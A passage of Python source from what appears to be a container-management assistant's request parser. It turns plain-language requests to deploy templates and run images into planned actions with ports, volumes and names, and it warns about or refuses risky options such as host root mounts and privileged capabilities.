"""The embedded parser's handlers for requests that make something new: templates, containers, images.

``parse_deploy`` (a template, with its port, parameters and stack name), ``parse_run`` (a container from an
image, with ports, variables, volumes, command and restart policy), ``parse_create`` (which of the two "create …"
means), ``parse_pull``, and the helpers ``image_word`` and ``_command``. What a template is told lives in
``template_params``; what a new container is told in words (variables, data folders, restart policy) in
``run_settings``.
"""
from __future__ import annotations

import shlex
from typing import Any

from . import regex as re
from .clause import FILLER, IMAGE_ALIASES, KNOWN_IMAGES, PUT_ON_PORT, Clause
from .images import LISTENS, PUBLISHED
from .intent import is_live
from .lexicon import COMMON, DICTIONARY
from .plan import DeployTemplateAction, PortMapping, PullAction, Question, RunAction, StackAction, VolumeMapping
from .resolve import IMAGE_PART_WORDS, Resolution, image_part, match_template
from .run_settings import (
    ANY_VOLUME,
    CONTENT_PATH,
    DATA_FOLDER,
    DATA_PATHS,
    DOC_ROOT,
    GENERIC_KEYS,
    ROLE_OF_PATH,
    STORED_IN,
    env_in_words,
    image_home,
    media_folders,
    restart_said,
    spoken_settings,
)
from .state import State, TemplateInfo, repository
from .targets import Parsed, add_action, find_targets, names_in
from .template_params import PASSWORD, ROLES, STACK_KEY, a_value, port_said, stack_name_said, template_params, typed_value

# a thing described by what it does, not named: "something to keep passwords safe", "a place where everyone can
# share files", "a tool for …", "like zapier but self-hosted"
DESCRIBED = re.compile(r"\b(?:something|anything|somewhere|someplace|"
                       r"a\s+(?:tool|app|place|service|thing|way|program|system|solution|server)|"
                       r"software|like|-style|alternative|our\s+own|self-?hosted)\b")


ORDINALS = {'first': 0, 'former': 0, 'second': 1, 'third': 2, 'latter': -1, 'last': -1}


def parse_deploy(clause: Clause, state: State, out: Parsed, words: list[str], verb: str,
            previous: Resolution | None) -> Resolution | None:
    if versioned_image(clause, words):   # "a mysql 8 container", "deploy redis:7": a container, not a template
        return parse_run(clause, state, out, words, 'run', previous)
    templates, score = match_template(words, clause.lower, state.templates)
    image = image_word(words)
    if image and re.search(r'\brun\b', clause.lower) and restart_said(clause.lower):   # "i want to run nginx with restart
        return parse_run(clause, state, out, words, 'run', previous)   # policy always": a container's own setting
    if templates and image in DATA_PATHS and templates[0].startswith(f"{image}-") and not _bundled(clause, words, state) and (
            templates[0][len(image) + 1:] not in clause.lower) and (
            clause.volumes or clause.named_volumes or ANY_VOLUME.search(clause.raw) or clause.env
            or spoken_settings(image, clause) != ({}, None)):   # "spin up mongo with the mongo-data volume on /data/db",
        return parse_run(clause, state, out, words, 'run', previous)   # "a fresh postgres with password x": the database alone
    if 3 <= score < 5 and len(templates) == 1 and DESCRIBED.search(clause.lower):
        score = 5   # "something to keep passwords safe": a description that fits one template only
    earlier = next((a for a in reversed(out.actions) if isinstance(a, DeployTemplateAction)), None)
    if (score < 5 or not templates) and earlier is not None and clause.has('it', 'one', 'that') and earlier.template in {
            t.id for t in state.templates}:   # "I'd like to try traefik, could you set it up on port 10080?"
        more = template_params(next(t for t in state.templates if t.id == earlier.template), clause.raw)
        port = re.search(r'\b(?:on|at)\s+(?:port\s+)?(\d{2,5})\b', clause.raw)
        if port and 'port' in next(t for t in state.templates if t.id == earlier.template).params:
            more.setdefault('port', int(port.group(1)))
        index = out.actions.index(earlier)
        out.actions[index] = earlier.model_copy(update={'params': {**earlier.params, **more}})
        return previous
    if score < 5 or not templates:
        if verb in ('deploy', 'up') and (clause.images or image_word(words)):
            return parse_run(clause, state, out, words, 'run', previous)
        if verb in ('deploy',) and any(w in state.stacks and not _a_new(w, clause) for w in words) and clause.has(
                'deploy', 'redeploy', 'install'):   # "deploy the blog" again; not "install a blog": a new one
            stack = next(w for w in words if w in state.stacks and not _a_new(w, clause))
            add_action(out, StackAction(op='redeploy', stack=stack), f'redeploy stack {stack}')
            return Resolution(stack=stack)
        if verb == 'deploy' and previous is not None and previous.all_stacks and not previous.containers and re.match(
                r'\s*(?:and\s+|then\s+|please\s+)*(?:deploy|redeploy|install)\s+(?:it|them|that)\b', clause.lower) \
                and not [w for w in names_in(words, state) if w not in ('it', 'them', 'again')]:
            for stack in previous.all_stacks:   # "pull the shop images and deploy them": that stack again
                add_action(out, StackAction(op='redeploy', stack=stack), f'redeploy stack {stack}')
            return previous
        if verb in ('need', 'want', 'give') or verb == 'deploy' and not words:
            return previous
        usual = _usual_pick(templates, clause, state, out) if score >= 3 else None
        if usual is not None:   # "we want a blog on this server": the usual pick, the others named beside it
            return deploy_one(clause, out, usual)
        if len(templates) == 1 and score >= 3 and re.search(r'\b(?:install|deploy|set\s*up|setup|put\s+up)\b', clause.lower):
            return deploy_one(clause, out, next(t for t in state.templates if t.id == templates[0]))   # the one that fits
        if len(templates) == 1 and score >= 3:
            out.questions.append(Question(text=f'Do you mean the {templates[0]} template?', choices=[f'deploy {templates[0]}']))
            return None
        if templates and score >= 3:   # "install a blog": the templates the word is a tag of
            out.questions.append(Question(text='Several templates fit: which one?',
                                          choices=[f'deploy {t}' for t in templates[:6]]))
            return None
        if image_running_here(clause, words, state):   # "make another minecraft server on 25590": one more of it
            return parse_run(clause, state, out, words, 'run', previous)
        out.questions.append(Question(text='Which template should I deploy? For example: '
                                           + ', '.join(t.id for t in state.templates[:8]),
                                      choices=[f'deploy {t.id}' for t in state.templates[:6]]))
        return None
    parts = [p for p in re.split(r'\s*,\s*(?:and\s+)?|\s+(?:and|plus)\s+|\s*[&+]\s+', clause.raw) if p.strip()]
    each = [match_template(p.lower().split(), p.lower(), state.templates) for p in parts]
    named = [(part, ids[0]) for part, (ids, score) in zip(parts, each, strict=True) if score >= 12 and len(ids) == 1]
    shared = ' '.join(part for part, (_, score) in zip(parts, each, strict=True) if score < 5)
    said = [set(re.findall(r'[a-z0-9][\w.-]*', part.lower())) for part in parts]
    covering = [t for t in state.templates if len(parts) > 1 and all(w & {*t.tags, t.id} for w in said)
                and len(set().union(*said) & {*t.tags, t.id}) >= len(parts)]   # each part a part of it
    if len(covering) == 1:   # "deploy nginx + php + mariadb for an old php app": one template has them all
        return deploy_one(clause, out, covering[0])
    if len(parts) > 1 and len({t for _, t in named}) > 1 and all(
            score >= 12 and len(ids) == 1 or score < 5 for ids, score in each):   # "deploy uptime-kuma and gitea"
        ranked = {ORDINALS[m.group(1).lower()]: int(m.group(2)) for m in re.finditer(
            r'\b(?:the\s+)?(first|second|third|former|latter|last)(?:\s+one)?\s+(?:on|at|gets|uses)\s+(?:port\s+)?(\d{2,5})\b',
            shared, re.IGNORECASE)}   # "install wordpress and rabbitmq, the first on 7000, the second on 8088"
        for number, (part, tid) in enumerate(named):   # "gitea on 3001 and vaultwarden on 10080, both in Europe/Berlin time"
            each_one = next(t for t in state.templates if t.id == tid)
            given = {**{k: v for k, v in template_params(each_one, shared).items() if not k.endswith('port')},
                     **template_params(each_one, part)}
            port = re.search(r'\b(?:on|at)\s+(?:port\s+)?(\d{2,5})\b|\(\s*(?:port\s+)?:?(\d{2,5})\s*\)',
                             part)   # "gitea on 3001 and vaultwarden on 10080", "node-red (8222)"
            if port and 'port' in each_one.params and 'port' not in given:
                given['port'] = int(port.group(1) or port.group(2))
            said = ranked.get(number, ranked.get(-1) if number == len(named) - 1 else None)
            if said and 'port' in each_one.params and 'port' not in given:
                given['port'] = said
            add_action(out, DeployTemplateAction(template=tid, stack=None, params=given),
                       f'deploy the {tid} template' + (f' on port {given["port"]}' if 'port' in given else ''))
        return previous
    usual = _usual_pick(templates, clause, state, out)
    if usual is not None:   # "could you set up a message broker": the usual pick, the others named beside it
        return deploy_one(clause, out, usual)
    if len(templates) > 1:
        out.questions.append(Question(text='Several templates fit: which one?',
                                      choices=[f'deploy {t}' for t in templates[:6]]))
        return None
    return deploy_one(clause, out, next(t for t in state.templates if t.id == templates[0]))


# Needs that several templates fit, with the one most people mean by the plain word: a blog is WordPress
# (Ghost when newsletters or members are said, which its own words then decide), a place for files is Nextcloud
# (MinIO when buckets or S3 are said), a message broker is RabbitMQ (Redis is first a cache). The plan names
# the others, and nothing runs before it is confirmed.
USUAL_PICKS = ((re.compile(r'\bblog(?:s|ging)?\b'), 'wordpress'),
               (re.compile(r'\b(?:files?|file\s+shar\w*|documents?|photos?\s+and\s+files)\b'), 'nextcloud'),
               (re.compile(r'\b(?:message|messaging|event)\s+(?:broker|queue|bus)\b|\bbroker\b'), 'rabbitmq'))


def _usual_pick(templates: list[str], clause: Clause, state: State, out: Parsed) -> TemplateInfo | None:
    """The template most people mean by the need said, when it is one of several that tie (else None)."""
    if len(templates) < 2:
        return None
    picks = {tid for need, tid in USUAL_PICKS if tid in templates and need.search(clause.lower)}
    if len(picks) != 1:
        return None
    pick = next((t for t in state.templates if t.id in picks), None)
    if pick is not None:
        others = [t for t in templates if t != pick.id]
        out.warnings.append(f'{pick.title} is the usual pick for that; {" and ".join(others)} '
                            f'fit{"s" if len(others) == 1 else ""} too: say "deploy {others[0]}" for it instead.')
    return pick


def _a_new(word: str, clause: Clause) -> bool:
    """Whether ``word`` is said as something new ("install a blog", "some crm", "another shop"), not as the
    live thing of that name ("deploy the blog")."""
    return bool(re.search(r'\b(?:an?|some|another|new|second|fresh|extra|one\s+more)\s+(?:new\s+|fresh\s+|little\s+|simple\s+)?'
                          + re.escape(word) + r'\b', clause.lower))


ADMIN_SAID = re.compile(r'(?<!\bdb\s)(?<!\bdatabase\s)(?<!\bmysql\s)(?<!\bmariadb\s)(?<!\bpostgres\s)\b(?:admin(?:istrator)?|'
                        r'root|superuser)(?:\s+(?:user(?:name)?|login|account))?\s+(?:password|passwd|pass|pw)\b', re.IGNORECASE)


def deploy_one(clause: Clause, out: Parsed, template: TemplateInfo) -> Resolution:
    """Deploy ``template`` with the parameters, port and stack name the clause gives."""
    params: dict[str, Any] = template_params(template, clause.raw)
    refused = {int(m.group(1)) for m in NOT_THIS_PORT.finditer(clause.raw)}   # "deploy ghost, not on port 80"
    params = {k: v for k, v in params.items() if not (k.endswith('port') and v in refused)}
    taken = {v for k, v in params.items() if k.endswith('port')} | refused
    port = port_said(clause, template, taken)
    others = {int(n) for n in re.findall(r'(?<![\w.:/-])(\d{2,5})(?![\w.:/-])', clause.raw)} - refused
    if refused and not others and port is None and 'port' not in params and 'port' in template.params:
        said, free = ', '.join(map(str, sorted(refused))), [p for p in (8080, 8081, 8090) if p not in refused]
        out.questions.append(Question(text=f'Which port should {template.id} use (not {said})?',
                                      choices=[f'deploy {template.id} on port {p}' for p in free]))
        return Resolution(stack=template.id)
    if port is not None and 'port' not in params:
        if 'port' in template.params:
            params['port'] = port
        else:
            out.warnings.append(f'Template {template.id} has no port parameter; the port was not used.')
    variables = {k.upper(): v for k, v in template.env_params}
    for key, value in clause.env.items():
        if STACK_KEY.fullmatch(key):   # the stack's name (stack_name_said)
            continue
        name = key.lower().replace('-', '_')
        if name == 'port' and value.isdigit() and 'port' in template.params:
            params['port'] = int(value)
        elif name in template.params:
            params[name] = typed_value(name, value)   # "secure_cookie=true", "db_port=5433"
        elif key == 'TZ' and 'timezone' in template.params:   # "timezone Europe/Paris": the template's time zone
            params.setdefault('timezone', value)
        elif key.upper() in variables:   # "MINIO_ROOT_USER=admin": the image's own variable, set by a parameter
            params[variables[key.upper()]] = typed_value(variables[key.upper()], value)
        elif value in params.values():   # "user=admin password=x": read from the words already
            continue
        else:
            out.warnings.append(f'Template {template.id} has no parameter {key}; it was not used.')
    said_values = {str(v) for v in params.values()}
    mounts = [f'{v.source} as {v.target}' for v in clause.volumes if v.source not in said_values] + [
        f'volume {name}' + (f' as {target}' if target else '') for name, target, _ in clause.named_volumes
        if name not in said_values] or [f'the data in {m.group(1)}' for m in re.finditer(
        r'\b(?:data|files|storage|uploads)\b[^,;]{0,20}?\b(?:in|at|under|on|to|into)\s+((?:/|~/|\./)[^\s,;]*)', clause.raw,
        re.IGNORECASE) if m.group(1) not in said_values]
    if HOST_ROOT.search(clause.lower + ' ') and not any(v.source == '/' for v in clause.volumes):
        mounts.append("the host's root filesystem")   # "… and mount the host's root filesystem into it": never silently
    if re.search(r'\bdocker\s*socket\b|docker\.sock', clause.lower) and not any(
            'docker.sock' in v.source for v in clause.volumes):
        mounts.append('the Docker socket')
    if mounts:   # "the wordpress template with /srv/wp as /var/www/html": said, so never dropped unsaid
        out.warnings.append(f'Template {template.id} takes no mounts: {", ".join(mounts)} was not used. Its compose file '
                            'says where its data lives; change it in the stack\'s editor after deploying.')
    admin = ADMIN_SAID.search(clause.raw)
    given = re.match(r'\s*(?:is\s+|=\s*|:\s*)?["\']?([^\s,;"\']+)', clause.raw[admin.end():]) if admin else None
    if admin and given and given.group(1).rstrip('.') in said_values:
        admin = None   # "root pass x" where the template's database root password took x
    if admin and not any(n.split('_')[0] in ROLES[0] for n in template.params):   # "wordpress with admin password x"
        out.warnings.append(f'Template {template.id} takes no admin login: "{admin.group(0)}" was not used. Its first '
                            'administrator is made in the app itself, on its first page.')
    email = re.search(r'[\w.+-]+@[\w-]+(?:\.[\w-]+)+', clause.raw)
    if email and email.group(0) not in said_values and not ADDRESS_SAID.search(clause.raw[:email.start()]) and not any(
            'email' in n or 'mail' in n.split('_') for n in template.params):   # "wordpress with admin email me@x.org"
        out.warnings.append(f'Template {template.id} takes no e-mail address: "{email.group(0)}" was not used. Its '
                            'accounts are set up in the app itself.')
    policy = restart_said(clause.lower)
    if policy:
        out.warnings.append(f'Template {template.id} has no restart setting: its compose file says how it restarts, so '
                            f'the restart policy "{policy}" was not used.')
    stack = stack_name_said(clause)
    add_action(out, DeployTemplateAction(template=template.id, stack=stack, params=params),
         f'deploy the {template.title} template' + (f' as stack {stack}' if stack else '')
         + ''.join(f', {k} {v}' for k, v in params.items()))
    return Resolution(stack=stack or template.id)


NOT_THIS_PORT = re.compile(r"\b(?:not|never|no|except|avoid(?:ing)?|other\s+than|anything\s+but|instead\s+of|rather\s+than|"
                           r"(?:don'?t|do\s+not)\s+(?:use|" + PUT_ON_PORT + r"(?:\s+it)?))\s+"
                           r"(?:on\s+|at\s+|using\s+|use\s+)?(?:the\s+)?(?:port\s+)?(\d{2,5})\b"
                           r"(?!\s*(?:replicas?|copies|instances|lines|minutes|days))", re.IGNORECASE)


FUSED = re.compile(r'(pg|postgres|postgresql|mysql|mariadb|redis|mongo|mongodb|node|python|nginx|httpd)(\d{1,2}(?:\.\d{1,2})?)')
TAG_SAID = re.compile(r'\b(?:the\s+)?(?P<a>v?\d{1,3}(?:\.\d{1,3}){0,2}(?:-[a-z0-9]+)?|latest|lts)\s+(?:tag|version|release)\b|'
                      r'\b(?:at\s+|on\s+)?(?:tag|version|release)\s+(?P<b>v?\d{1,3}(?:\.\d{1,3}){0,2}(?:-[a-z0-9]+)?|latest|lts)\b')
IMAGE_PATH = re.compile(r'(?![ru]/)[a-z0-9][a-z0-9._-]*(?:/[a-z0-9][a-z0-9._-]*)+')   # not a forum's "r/selfhosted", "u/x"


VERSION_SAID = re.compile(r'^(?:(?:version|ver|tag|release)\s+|v)?(\d{1,3}(?:\.\d{1,3}){0,2}(?:-[a-z0-9]+)?|latest|stable|'
                          r'alpine|lts)$')


def image_word(words: list[str]) -> str | None:
    """A well-known image named in words, with the version that follows it ("mysql 8" -> mysql:8),
    or a repository path ("traefik/whoami", "ghcr.io/acme/app")."""
    for index, word in enumerate(words):
        fused = FUSED.fullmatch(word)   # "pg16", "mysql8", "redis7.2"
        if fused:
            return f'{IMAGE_ALIASES.get(fused.group(1), fused.group(1))}:{fused.group(2)}'
        if word in KNOWN_IMAGES or IMAGE_ALIASES.get(word) in KNOWN_IMAGES:
            break
        if IMAGE_PATH.fullmatch(word) and not word.startswith(('/', '.', '~')) and not (
                index and words[index - 1] in ('user', 'login', 'admin', 'credentials', 'account')):   # "user bob/pw"
            return word
    for index, word in enumerate(words):
        if word in KNOWN_IMAGES or IMAGE_ALIASES.get(word) in KNOWN_IMAGES:   # "pg 16": postgres:16
            image = IMAGE_ALIASES.get(word, word)
            after = ' '.join(words[index + 1:index + 3])
            version = (re.match(r'(?:at\s+)?(?:(?:version|ver|tag|release)\s+|v)?(\d{1,2}(?:\.\d{1,3}){0,2}(?:-[a-z0-9]+)?'
                                r'|\d{3}(?:\.\d{1,3}){1,2}(?:-[a-z0-9]+)?|latest|lts)\b(?!\s*(?:days?|weeks?|months?|years?|hours?|h|d|w|mins?|minutes?|gb|mb|gib|mib|%|'
                                r'replicas|copies|instances|containers|times)\b)', after))   # not "grafana, 90 days"
            before = re.search(r'(?:^|\s)(?:the\s+)?(\d{1,3}(?:\.\d{1,3}){0,2}(?:-[a-z0-9]+)?|latest)\s+(?:tag|version|release)'
                               r'\s+of\s*$', ' '.join(words[max(0, index - 5):index]))   # "the 16-alpine tag of postgres"
            tag = version.group(1) if version else before.group(1) if before else None
            return f'{image}:{tag}' if tag else image
    return None


RUN_WHAT = re.compile(r'^(?:please\s+)?(?:docker\s+)?(?:run|start|launch|spin\s+up|fire\s+up)\s+(?:an?\s+|the\s+|a\s+new\s+)?'
                      r'(?P<image>[a-z0-9][a-z0-9._-]*[a-z0-9])(?=\s+(?:on|with|as|named|called|and|at|using|container|for|'
                      r'to|so|pls|please|listening|serving|from|in)\b|\s*[,:;]|\s*$)')
ANOTHER = re.compile(r'\b(?:second|another|extra|new|more|other|copy|clone|duplicate|again|same\s+image|its\s+image|'
                     r'image)\b')
# "run a test mosquitto broker", "spin up an uptime kuma": one of that software, said with an article after the verb
ONE_OF_IT = re.compile(r'(?:\b(?:run|start|spin\s+up|launch|fire\s+up|create)\s+(?:me\s+|us\s+)?|'
                       r'^\s*(?:(?:i|we)(?:\s+would|\'d)?\s+(?:like|want|need)\s+|give\s+(?:me|us)\s+)?)an?\s+'
                       r'(?:(?:test|spare|separate|fresh|little|quick|temporary|throwaway)\s+)?(?P<word>[\w-]+)')


def image_running_here(clause: Clause, words: list[str], state: State) -> str | None:
    """The image of software that runs here, asked for once more ("run a second jellyfin on 8097", "make another
    minecraft server", "the bluemap image again as map-creative"): the one image every container of it runs."""
    one = ONE_OF_IT.search(clause.lower)
    if one and not ANOTHER.search(clause.lower):   # said with an article: that word alone, and no template of it
        if any(t.id == one.group('word') or one.group('word') in t.id.split('-') for t in state.templates):
            return None
        words = [one.group('word')]
    elif not ANOTHER.search(clause.lower):
        return None
    for word in words:
        if len(word) < 4 or word in IMAGE_PART_WORDS or word in state.stacks:
            continue
        images = {b.image for b in state.containers if word == b.repo or image_part(word, b.repo)}
        repos = {repository(i) for i in images}
        if len(repos) == 1:   # tags apart ("java17", "java21"): the repository, its default tag
            return images.pop() if len(images) == 1 else repos.pop()
    return None


def named_after_run(clause: Clause, state: State) -> str | None:
    """An image named as the thing to run, though not one the parser knows: "run eclipse-mosquitto on
    1883" — a name with a dash or a digit right after the verb that is no word and names nothing here."""
    found = RUN_WHAT.match(clause.text.strip())
    if not found:   # "spin up a navidrome for me, …", "a pgadmin at 5050": software said by its name, after an article
        named = re.search(r'(?:^|\b(?:an?|new|another|fresh|one|my\s+own|our\s+own)\s+)(?P<image>[a-z][a-z0-9.-]*[a-z0-9])\b',
                          clause.text.strip())
        word = named.group('image') if named else ''
        if word not in PUBLISHED or state.container(word) is not None or word in state.stacks or any(
                b.service == word for b in state.containers):
            return None
        return PUBLISHED[word]
    word = found.group('image')
    if word in COMMON or word in FILLER or state.container(word) is not None or word in state.stacks:
        return None
    if word in PUBLISHED:
        return PUBLISHED[word]
    return word if re.search(r'[-\d]', word) and re.search(r'[a-z]{3}', word) else None


def versioned_image(clause: Clause, words: list[str]) -> bool:
    """A request that names an image with a version, or says "container": it wants a container
    of that image ("a mysql 8 container with root password …"), not a template."""
    image = image_word(words)
    return bool(clause.images) or (image is not None and (':' in image or clause.has('container', 'image')))


RUN_JOIN = re.compile(r'\s*(?:,\s*|;\s*)?\b(?:and|plus)\b(?:\s+(?:also|then))?(?:\s+next\s+to\s+it)?\s+'
                      r'(?:(?:another|a\s+second|one\s+more|also)\s+)?', re.IGNORECASE)


SETTING_FIRST = re.compile(r'\s*(?:the\s+|its\s+|a\s+)?(?:' + PASSWORD + r'|user(?:name)?|login|db|database|port|volume|'
                           r'root\s+' + PASSWORD + r'|env|restart)\b', re.IGNORECASE)


def _template_part(said: Clause, state: State) -> TemplateInfo | None:
    """The one template a part of a request names outright ("n8n on 5678"), None when it names no image of it."""
    ids, score = match_template(said.words, said.lower, state.templates)
    return next((t for t in state.templates if t.id == ids[0]), None) if score >= 12 and len(ids) == 1 else None


def _images_apart(clause: Clause, state: State) -> list[str]:
    """The parts of a run request that each name an image (or a template) of their own ("nginx on 9443 and redis 7
    with password x", "postgres 16 with password s3cret, plus httpd on port 10080"): one run each."""
    body = re.sub(r'^\s*(?:(?:please|pls|can\s+you|could\s+you|i\s+need|i\s+want|we\s+need)\s+)*'
                  r'(?:(?:docker\s+)?run|start|spin\s+up|create|deploy|launch|give\s+me)?\s*(?:(?:two|2|both)\s+containers?'
                  r'(?:\s+please)?\s*:?\s*)?', '', clause.raw, flags=re.IGNORECASE)
    pieces = [p for p in RUN_JOIN.split(body) if p and p.strip()]
    if len(pieces) < 2:
        return []
    parts: list[str] = []
    for piece in pieces:
        said = Clause(piece)
        if SETTING_FIRST.match(piece) and parts:
            parts[-1] += f' and {piece}'   # "…, user and password both postgres": a setting of the same container
        elif said.images or image_word(said.words) or _template_part(said, state) is not None:
            parts.append(piece)
        elif parts:
            parts[-1] += f' and {piece}'   # "user x and password y": still the same container
        else:
            return []
    images = [p for p in parts if Clause(p).images or image_word(Clause(p).words)]
    return parts if len(parts) > 1 and (len(images) == len(parts) or images and not image_word(Clause(parts[0]).words)
                                        and images == parts[1:]) else []   # a template first, then containers


# a database "with a web UI": the template that bundles one ("mongo with a web ui", "mysql + phpmyadmin")
WITH_UI = re.compile(r'\b(?:with|and|plus|\+|w/)\s+(?:an?\s+|the\s+|its\s+)?'
                     r'(?:web\s*(?:ui|gui|interface|console|admin(?:\s+(?:page|panel|ui))?)|'
                     r'admin\s+(?:page|panel|ui|gui|interface|console|tool)|gui|ui|browser\s+(?:ui|admin)|phpmyadmin|pgadmin|'
                     r'mongo-?express|adminer)\b', re.IGNORECASE)
DATABASE_REPOS = {'mysql': 'mysql', 'mariadb': 'mysql', 'postgres': 'postgres', 'postgresql': 'postgres', 'pg': 'postgres',
                  'mongo': 'mongo', 'mongodb': 'mongo'}


UI_FIRST = re.compile(r'\b(?:phpmyadmin|pgadmin4?|mongo-?express|adminer)\s*(?:\+|&|\band\b|\bwith\b|\bplus\b|\bon\s+top\s+of\b|'
                      r'\bfor\b|\bw/)\s*(?:an?\s+|the\s+|its\s+)?(?P<db>mysql|mariadb|postgres(?:ql)?|pg|mongo(?:db)?)\b',
                      re.IGNORECASE)   # "phpMyAdmin + MySQL", "pgadmin with postgres": the database's bundle


def _bundled(clause: Clause, words: list[str], state: State) -> TemplateInfo | None:
    first = UI_FIRST.search(clause.raw)
    if not first and not WITH_UI.search(clause.raw):
        return None
    image = first.group('db').lower() if first else (
        clause.images[0] if clause.images else image_word(words) or '').split(':')[0].rsplit('/', 1)[-1].lower()
    base = DATABASE_REPOS.get(image)
    fits = [t for t in state.templates if base and base in t.id.split('-') and len(t.id.split('-')) > 1]
    return fits[0] if len(fits) == 1 else None


# the host's whole filesystem, said in words ("with the whole host filesystem mounted at /host"): a mount of /
HOST_ROOT = re.compile(r'\b(entire|whole|root|host)\s+(file\s*system|filesystem|disk|drive)\b|\bmount\s+/\s|'
                       r'\b(?:all|entire|whole)\s+(?:the\s+)?(?:disk|drive|filesystem|file\s*system)\s+of\s+the\s+host\b|'
                       r"\bhost(?:'s)?\s+root\b|\b(?:the\s+)?root\s+(?:directory\s+|folder\s+|dir\s+)?of\s+the\s+(?:host|server|machine)\b")


def parse_run(clause: Clause, state: State, out: Parsed, words: list[str], verb: str,
         previous: Resolution | None) -> Resolution | None:
    powers = sorted({m.group(1).lower() for m in HOST_POWERS.finditer(clause.raw)})
    if powers:   # "run ubuntu --cap-add=SYS_ADMIN --device /dev/mem": never dropped quietly, never planned
        out.warnings.append(f'Not done: {", ".join("--" + p for p in powers)} would reach into the host (capabilities, '
                            'devices, namespaces), and a run plan cannot carry it. Put the service in a stack\'s compose '
                            'file instead, where the host-access policy checks it.')
        without = ' '.join(HOST_POWERS_SAID.sub(' ', clause.raw).split())
        out.questions.append(Question(text='Run it without those flags?', choices=[without]))
        return previous
    bundle = _bundled(clause, words, state)
    if bundle is not None:   # "mongo with a web ui on 8082": the mongo-express template
        return deploy_one(clause, out, bundle)
    apart = _images_apart(clause, state)
    if apart:   # two containers in one request: each with what was said about it
        for part in apart:
            own = Clause(part)
            if not own.images and not image_word(own.words) and not versioned_image(own, own.words):   # a template's
                template = _template_part(own, state)   # name ("put up n8n on 5678 and a redis named n8n-cache")
                if template is not None:
                    previous = deploy_one(own, out, template)
                    continue
            previous = parse_run(Clause(f'run {part}'), state, out, [w for w in own.words if w not in FILLER],
                                 verb, previous)
        return previous
    image = clause.images[0] if clause.images else image_word(words) or named_after_run(clause, state) or \
        image_running_here(clause, words, state)
    pulled = out.actions[-1] if out.actions and getattr(out.actions[-1], 'type', None) == 'pull' else None
    if image is None and pulled is not None and clause.has('it', 'that', 'this'):   # "pull httpd 2.4 and run it as x"
        image = pulled.image
    if image and '/' not in image and not clause.images:   # "run grafana on port 3000": grafana/grafana
        base, _, version = image.partition(':')
        image = (template_repository(base, state) or base) + (f':{version}' if version else '')
    if image and ':' not in image.rsplit('/', 1)[-1] and '@' not in image:
        tag = TAG_SAID.search(clause.lower)   # "with the 7.2 tag", "at tag v1.10", "version 16"
        image = f'{image}:{tag.group("a") or tag.group("b")}' if tag else image
    unnamed = re.sub(r'\b(?:database|db|user|schema|volume)(?:\s+(?:should|will|must|can)\s+be)?\s+(?:named|called|name'
                     r'(?:\s+(?:is|should\s+be|must\s+be|will\s+be))?)\s+\S+', ' ', clause.text, flags=re.IGNORECASE)
    name_match = next((m for m in re.finditer(
        r'\b(?:named|called|call\s+(?:it|the\s+container|the\s+new\s+one)|name\s+(?:it|the\s+container)|'
        r'under\s+the\s+name|with\s+the\s+name|^\s*(?:service|container)(?=\s+[A-Za-z0-9][\w.-]*\s*:)|'
        r'(?:container[_-])?name(?:\s+(?:is|should\s+be|must\s+be|will\s+be|='
        r'|:))?|as)\s+([A-Za-z0-9][A-Za-z0-9_.-]{0,127})\b', unnamed, re.IGNORECASE)
        if m.group(1).lower() not in NOT_A_NAME), None)   # "as a container, name it scratch": scratch
    quoted = next((q for q in clause.quoted if re.fullmatch(r'[A-Za-z0-9][A-Za-z0-9_.-]{0,127}', q) and not a_value(q, clause)),
                  None)
    name = quoted or (name_match.group(1) if name_match else None)
    name = name or _name_before_image(clause, image)
    privileged = _asked_for(r'\bprivileged\b|\bfull access\b|\broot access\b', clause.lower)
    host_network = _asked_for(r'\bhost network(ing)?\b|\b(?:net|network(?:_mode)?)\s*(?:=|:)?\s*host\b', clause.lower)
    host_pid = _asked_for(r"\bpid\s*(?:=|:)?\s*host\b|\bhost'?s? (?:pid|process) namespace\b", clause.lower)
    volumes = list(clause.volumes)
    if HOST_ROOT.search(clause.lower + ' ') and not any(v.source == '/' for v in volumes):
        said = re.search(r'\b(?:mounted|mount\s+it|available|visible)\s+(?:at|on|in|under|as)\s+(/[\w./-]*\w)', clause.lower)
        volumes.append(VolumeMapping(source='/', target=said.group(1) if said else '/host'))
    repo = repository(image or '').rsplit('/', 1)[-1]   # "ghcr.io/x/mongo:7" -> "mongo"
    content = CONTENT_PATH.search(clause.text) or DOC_ROOT.search(clause.text)
    if content and not volumes and DATA_PATHS.get(IMAGE_ALIASES.get(repo, repo)) and repo in ('nginx', 'httpd', 'caddy'):
        source = content.group('path') or content.group('path2')   # "with /var/www/x as the document root"
        volumes.append(VolumeMapping(source=source, target=str(DATA_PATHS[IMAGE_ALIASES.get(repo, repo)]),
                                     read_only=bool(re.search(r'\bread[- ]?only\b', clause.lower))))   # "serve ./public"
    for volume, where, read_only in clause.named_volumes:   # "keep its data in a volume called pgdata"
        where = where or DATA_PATHS.get(IMAGE_ALIASES.get(repo, repo))
        if where is None:
            out.questions.append(Question(text=f'Where in the container should volume {volume} be mounted (for example '
                                               f'"volume {volume} at /data")?'))
            return previous
        volumes.append(VolumeMapping(source=volume, target=where, read_only=read_only))
    anonymous = ANY_VOLUME.search(clause.text) if not volumes and not clause.named_volumes else None
    where = (anonymous.group('target') if anonymous else None) or DATA_PATHS.get(IMAGE_ALIASES.get(repo, repo))
    if anonymous and where and repo:   # "run minio with a named volume for /data", "keep the data in a docker volume"
        volumes.append(VolumeMapping(source=f'{name or repo}-data', target=where))
    home = DATA_PATHS.get(IMAGE_ALIASES.get(repo, repo))
    for index, mount in enumerate(volumes):   # "mount /opt/site as the web root", "bind /srv/mongo to its data dir"
        role = ROLE_OF_PATH.search(clause.raw[clause.raw.find(mount.source) + len(mount.source):]) \
            if mount.source in clause.raw else None
        if home and role and mount.target == '/' + mount.source.lstrip('~./'):   # where it goes was not said: its role
            volumes[index] = mount.model_copy(update={'target': home})
    data = DATA_FOLDER.search(clause.text)
    folder = (data.group('path') or data.group('path2')) if data else None
    if folder and DATA_PATHS.get(IMAGE_ALIASES.get(repo, repo)) and not any(v.source == folder for v in volumes):
        volumes.append(VolumeMapping(source=folder, target=str(DATA_PATHS[IMAGE_ALIASES.get(repo, repo)])))
    for stored in STORED_IN.finditer(clause.text):
        what = (stored.group('what') or '').lower()
        home = image_home(image or '', what.startswith('conf') or what == 'settings') if what or stored.group('verb') else None
        if home and stored.group('path') not in {v.source for v in volumes} | {v.target for v in volumes} and not any(
                v.target == home for v in volumes) and stored.group('path') != '/':
            volumes.append(VolumeMapping(source=stored.group('path'), target=home))
